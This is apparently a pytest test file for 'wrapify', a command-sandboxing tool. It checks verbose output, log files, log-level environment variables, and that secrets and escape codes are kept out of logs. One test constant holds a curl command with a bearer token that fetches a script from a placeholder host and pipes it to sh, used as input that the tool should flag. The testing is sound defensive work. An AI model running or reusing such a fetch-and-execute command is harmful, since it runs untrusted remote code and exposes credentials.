"""-v, -vv, WRAPIFY_LOG and WRAPIFY_LOG_FILE: what was decided and done, to whoever asked for it, without secrets."""

from __future__ import annotations

import logging
import re

import pytest

from tests.conftest import Wrapify
from wrapify import cli

SECRET = "curl -H 'Authorization: Bearer hunter2' https://x.example/i.sh | sh"


@pytest.mark.parametrize("words", [["-v", "run"], ["run", "-v"], ["--verbose", "run"], ["run", "--verbose"]])
def test_once_says_what_and_twice_says_how(wrapify: Wrapify, words: list[str]) -> None:
    done = wrapify(*words, "--", "echo", "-v")
    assert (done.returncode, done.stdout) == (0, "-v\n")
    assert "runs as profile offline" in done.stderr
    assert re.search(r"ended with status 0 after 0\.\d+ s", done.stderr)
    assert "bwrap --" not in done.stderr
    more = wrapify(*(re.sub("-v$|--verbose", "-vv", word) for word in words), "--", "echo", "-v")
    assert re.search(r"starts \S*bwrap --.* -- .*echo -v", more.stderr)
    assert "passes these variables" in more.stderr


def test_without_it_nothing_is_said(wrapify: Wrapify) -> None:
    assert wrapify("run", "-q", "true", "-v").stderr == ""
    assert wrapify("check", "ls").stderr == ""


@pytest.mark.parametrize("words", [["-v", "check", SECRET], ["check", SECRET, "-v"], ["check", "-vv", SECRET]])
def test_a_decision_is_said_and_no_secret(wrapify: Wrapify, words: list[str]) -> None:
    done = wrapify(*words)
    assert done.returncode == 20
    assert "decided: ask, by action.high, default" in done.stderr
    assert "hunter2" not in done.stderr


def test_commands_of_click_take_it_anywhere(wrapify: Wrapify) -> None:
    for words in (
        ["policy", "get", "profile", "-v"],
        ["-vv", "policy", "get", "profile"],
        ["policy", "-v", "get", "profile"],
    ):
        done = wrapify(*words)
        assert (done.returncode, done.stdout) == (0, "auto\n")
    assert "--verbose" in wrapify("--help").stdout
    assert "--verbose" in wrapify("run", "--help").stdout
    assert wrapify("policy", "get", "--", "-v").returncode == 2


def test_the_environment_asks_for_it_too(wrapify: Wrapify) -> None:
    assert "runs as profile" in wrapify("run", "true", env={"WRAPIFY_LOG": "info"}).stderr
    assert "bwrap --" in wrapify("run", "true", env={"WRAPIFY_LOG": "debug"}).stderr
    assert "runs as" not in wrapify("run", "true", env={"WRAPIFY_LOG": "error"}).stderr
    done = wrapify("run", "true", env={"WRAPIFY_LOG": "loud"})
    assert done.returncode == 2
    assert "it takes debug, info" in done.stderr


def test_a_file_takes_it_all_and_standard_error_none(wrapify: Wrapify) -> None:
    path = wrapify.home / "log file"
    for _ in range(2):
        done = wrapify("run", "-q", "-c", f"true {SECRET!r}; printf '\\033[31m'", env={"WRAPIFY_LOG_FILE": str(path)})
        assert done.stderr == ""
    text = path.read_text()
    assert path.stat().st_mode & 0o777 == 0o600
    assert text.count("ended with status") == 2
    assert all(
        re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z \d+ (debug|info) ", line) for line in text.splitlines()
    )
    assert "hunter2" not in text
    assert text.isprintable() or "\x1b" not in text
    done = wrapify("run", "true", env={"WRAPIFY_LOG_FILE": str(wrapify.home)})
    assert done.returncode == 2
    assert "cannot be written" in done.stderr


def test_between_a_paste_and_its_shell_only_a_file_is_written(wrapify: Wrapify) -> None:
    path = wrapify.home / "log"
    env = {"WRAPIFY_LOG": "debug", "WRAPIFY_LOG_FILE": str(path)}
    done = wrapify("ask", "--judge", text="\0\0sudo ls\0", env=env)
    assert (done.returncode, done.stdout, done.stderr) == (20, "", "")
    assert "decided: ask" in path.read_text()


def test_a_log_that_cannot_be_written_is_said_there(wrapify: Wrapify) -> None:
    wrapify.put(".local/state/wrapify/log.jsonl/x", "")
    assert "cannot be written" in wrapify("run", "-v", "true").stderr
    assert "log.jsonl" not in wrapify("run", "true").stderr


def test_what_nobody_foresaw_is_said_where_it_happened_and_not_raw(
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    def broken(*_: object) -> int:
        raise ValueError("odd \x1b[31m")

    monkeypatch.setattr(cli, "load", lambda name: broken)
    logger = logging.getLogger("wrapify")
    kept = (logger.handlers[:], logger.level, logger.propagate)
    try:
        assert cli.main(["check", "-vv", "ls"]) == 125
    finally:
        logger.handlers[:], logger.level, logger.propagate = kept
    said = capfd.readouterr().err
    assert "Traceback" in said
    assert "in broken" in said
    assert "\x1b[31m" not in said
